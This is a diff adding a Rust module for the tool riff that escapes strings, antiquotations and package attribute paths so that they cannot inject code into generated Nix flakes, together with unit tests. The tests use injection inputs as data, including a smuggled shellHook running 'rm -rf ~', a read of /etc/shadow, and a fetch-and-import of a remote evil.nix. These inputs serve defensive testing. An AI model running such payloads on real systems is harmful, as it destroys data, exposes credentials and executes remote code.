@@ -0,0 +1,283 @@
+//! Rendering values into the Nix riff generates, so quotes, backslashes, and `${` in package
+//! names or environment variables can't end a string early or inject code into the flake.
+
+/// A double-quoted Nix string of `value`, taken literally
+pub fn string(value: &str) -> String {
+    format!("\"{}\"", escape(value))
+}
+
+/// A double-quoted Nix string of `value`, keeping its antiquotations of package attribute paths
+///
+/// Environment variables in the registry and in `Cargo.toml` refer to packages this way, like
+/// `${python3}/bin/python3` or `${llvmPackages.libclang.lib}/lib`. Anything else is taken
+/// literally, including a `${` of any other expression, like `${builtins.readFile ./secret}`, or
+/// without a closing `}`. As in Nix, `$${` is a literal `${`.
+pub fn template(value: &str) -> String {
+    format!("\"{}\"", escape_template(value))
+}
+
+/// `value` escaped for the inside of a double-quoted Nix string
+pub fn escape(value: &str) -> String {
+    let mut escaped = String::with_capacity(value.len());
+    let mut chars = value.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '$' if chars.peek() == Some(&'{') => escaped.push_str("\\$"),
+            _ => escape_char(c, &mut escaped),
+        }
+    }
+    escaped
+}
+
+/// Like `escape`, but keeping `value`'s `${attr.path}` antiquotations as they are
+pub fn escape_template(value: &str) -> String {
+    let mut escaped = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(c) = rest.chars().next() {
+        if let Some(after) = rest.strip_prefix("$${") {
+            escaped.push_str("$${");
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix("${") {
+            match attr_path_antiquotation_len(after) {
+                Some(len) => {
+                    escaped.push_str("${");
+                    escaped.push_str(&after[..len]);
+                    rest = &after[len..];
+                }
+                None => {
+                    escaped.push_str("\\${");
+                    rest = after;
+                }
+            }
+        } else {
+            escape_char(c, &mut escaped);
+            rest = &rest[c.len_utf8()..];
+        }
+    }
+    escaped
+}
+
+/// An indented (`''`) Nix string of `value`, taken literally, for shell code
+pub fn indented_string(value: &str) -> String {
+    let escaped = value.replace("''", "'''").replace("${", "''${");
+    format!("''\n{escaped}\n''")
+}
+
+/// A package attribute path, like `openssl` or `darwin.apple_sdk.frameworks.Security`
+///
+/// Attribute names which aren't Nix identifiers are quoted, so a name that isn't in nixpkgs is
+/// an evaluation error rather than code.
+pub fn attr_path(path: &str) -> String {
+    if path.split('.').all(is_identifier) {
+        return path.to_string();
+    }
+    select("pkgs", path)
+}
+
+/// The attribute path `path` of `expr`, like `inputs.fenix.overlays.default`, quoting names which
+/// aren't Nix identifiers
+pub fn select(expr: &str, path: &str) -> String {
+    path.split('.')
+        .map(|name| match is_identifier(name) {
+            true => name.to_string(),
+            false => string(name),
+        })
+        .fold(expr.to_string(), |path, name| format!("{path}.{name}"))
+}
+
+/// Check that `path` is a package attribute path, like `openssl` or `llvmPackages_15.libclang`
+///
+/// Each name in the path is made of the letters, digits and `_-'+` nixpkgs names use. Others are
+/// quoted by [`attr_path`] anyway, but are more likely a mistake, like a space between packages.
+pub fn check_attr_path(path: &str) -> Result<(), String> {
+    for name in path.split('.') {
+        if name.is_empty() {
+            return Err(format!(
+                "`{path}` is not a package attribute path, like `openssl` or `llvmPackages_15.libclang`"
+            ));
+        }
+        if let Some(c) = name
+            .chars()
+            .find(|c| !(c.is_ascii_alphanumeric() || "_-'+".contains(*c)))
+        {
+            return Err(format!(
+                "`{path}` is not a package attribute path, as `{c}` can't be in the name `{name}`"
+            ));
+        }
+    }
+    Ok(())
+}
+
+/// Like [`check_attr_path`], as a clap value parser
+pub fn parse_attr_path(path: &str) -> Result<String, String> {
+    check_attr_path(path).map(|()| path.to_string())
+}
+
+/// Deserialize a list of package attribute paths, checking them with [`check_attr_path`]
+pub fn deserialize_attr_paths<'de, D, C>(deserializer: D) -> Result<C, D::Error>
+where
+    D: serde::Deserializer<'de>,
+    C: serde::Deserialize<'de>,
+    for<'a> &'a C: IntoIterator<Item = &'a String>,
+{
+    let paths = C::deserialize(deserializer)?;
+    for path in &paths {
+        check_attr_path(path).map_err(serde::de::Error::custom)?;
+    }
+    Ok(paths)
+}
+
+/// Whether `name` can be used in Nix without quotes
+pub fn is_identifier(name: &str) -> bool {
+    const KEYWORDS: &[&str] = &[
+        "assert", "else", "if", "in", "inherit", "let", "or", "rec", "then", "with",
+    ];
+    let mut chars = name.chars();
+    match chars.next() {
+        Some(c) if c.is_ascii_alphabetic() || c == '_' => (),
+        _ => return false,
+    }
+    chars.all(|c| c.is_ascii_alphanumeric() || "_'-".contains(c)) && !KEYWORDS.contains(&name)
+}
+
+fn escape_char(c: char, escaped: &mut String) {
+    match c {
+        '"' => escaped.push_str("\\\""),
+        '\\' => escaped.push_str("\\\\"),
+        '\n' => escaped.push_str("\\n"),
+        '\r' => escaped.push_str("\\r"),
+        '\t' => escaped.push_str("\\t"),
+        _ => escaped.push(c),
+    }
+}
+
+/// The length of the attribute path at the start of `code`, which follows a `${`, up to and
+/// including its closing `}`, or `None` if the antiquotation is any other expression
+fn attr_path_antiquotation_len(code: &str) -> Option<usize> {
+    let end = code.find('}')?;
+    code[..end].split('.').all(is_identifier).then_some(end + 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn strings() {
+        assert_eq!(string("BYE"), r#""BYE""#);
+        assert_eq!(
+            string(r#"a "quoted" C:\path"#),
+            r#""a \"quoted\" C:\\path""#
+        );
+        assert_eq!(string("${HOME}"), r#""\${HOME}""#);
+        assert_eq!(string("$HOME"), r#""$HOME""#);
+        assert_eq!(string("two\nlines"), r#""two\nlines""#);
+        assert_eq!(
+            string(r#""; shellHook = "rm -rf ~"; x = ""#),
+            r#""\"; shellHook = \"rm -rf ~\"; x = \"""#
+        );
+    }
+
+    #[test]
+    fn templates() {
+        assert_eq!(
+            template("${python3}/bin/python3"),
+            r#""${python3}/bin/python3""#
+        );
+        assert_eq!(
+            template("${llvmPackages_15.libclang.lib}/lib"),
+            r#""${llvmPackages_15.libclang.lib}/lib""#
+        );
+        // Antiquotations of anything but an attribute path are literal, so they can't run code
+        assert_eq!(
+            template("${builtins.readFile /etc/shadow}"),
+            r#""\${builtins.readFile /etc/shadow}""#
+        );
+        assert_eq!(
+            template(r#"${import (builtins.fetchurl "https://example.com/evil.nix")}"#),
+            r#""\${import (builtins.fetchurl \"https://example.com/evil.nix\")}""#
+        );
+        assert_eq!(
+            template(r#"${lib.concatStringsSep "}" [ "${a}" ]}"#),
+            r#""\${lib.concatStringsSep \"}\" [ \"${a}\" ]}""#
+        );
+        assert_eq!(template("${with}"), r#""\${with}""#);
+        // Unclosed antiquotations and everything outside antiquotations are literal
+        assert_eq!(template("${oops"), r#""\${oops""#);
+        assert_eq!(template(r#"${python3}" + "\"#), r#""${python3}\" + \"\\""#);
+        assert_eq!(template("$${HOME}"), r#""$${HOME}""#);
+    }
+
+    #[test]
+    fn indented_strings() {
+        assert_eq!(
+            indented_string("echo ${HOME} '' done"),
+            "''\necho ''${HOME} ''' done\n''"
+        );
+    }
+
+    #[test]
+    fn attr_paths() {
+        assert_eq!(attr_path("openssl"), "openssl");
+        assert_eq!(
+            attr_path("darwin.apple_sdk.frameworks.Security"),
+            "darwin.apple_sdk.frameworks.Security"
+        );
+        assert_eq!(
+            attr_path("gst_all_1.gst-plugins-base"),
+            "gst_all_1.gst-plugins-base"
+        );
+        assert_eq!(
+            attr_path("llvmPackages_14.libclang"),
+            "llvmPackages_14.libclang"
+        );
+        assert_eq!(
+            attr_path("openssl ]; shellHook = \"\"; x = ["),
+            r#"pkgs."openssl ]; shellHook = \"\"; x = [""#
+        );
+        assert_eq!(attr_path("python3.7z"), r#"pkgs.python3."7z""#);
+        assert_eq!(attr_path("with"), r#"pkgs."with""#);
+        assert_eq!(attr_path("${exec}"), r#"pkgs."\${exec}""#);
+        assert_eq!(
+            select("inputs", "fenix.overlays.default"),
+            "inputs.fenix.overlays.default"
+        );
+        assert_eq!(
+            select("inputs", "rust-overlay.overlays.2"),
+            r#"inputs.rust-overlay.overlays."2""#
+        );
+    }
+
+    #[test]
+    fn checked_attr_paths() {
+        for path in [
+            "openssl",
+            "llvmPackages_15.libclang",
+            "python311Packages.setuptools",
+            "python3Packages.numpy",
+            "gtk3-x11",
+            "nodejs-18_x",
+            "gst_all_1.gst-plugins-base",
+            "2048-in-terminal",
+        ] {
+            assert_eq!(check_attr_path(path), Ok(()), "{path}");
+        }
+        for path in [
+            "",
+            "llvmPackages_15.",
+            ".libclang",
+            "qt5..qtbase",
+            "sqlite ]; evil",
+        ] {
+            assert!(check_attr_path(path).is_err(), "{path}");
+        }
+
+        let paths: std::collections::BTreeSet<String> =
+            deserialize_attr_paths(serde_json::json!(["openssl", "qt6.qtbase"])).unwrap();
+        assert_eq!(paths.len(), 2);
+        let err = deserialize_attr_paths::<_, Vec<String>>(serde_json::json!(["open ssl"]))
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("`open ssl`"), "{err}");
+    }
+}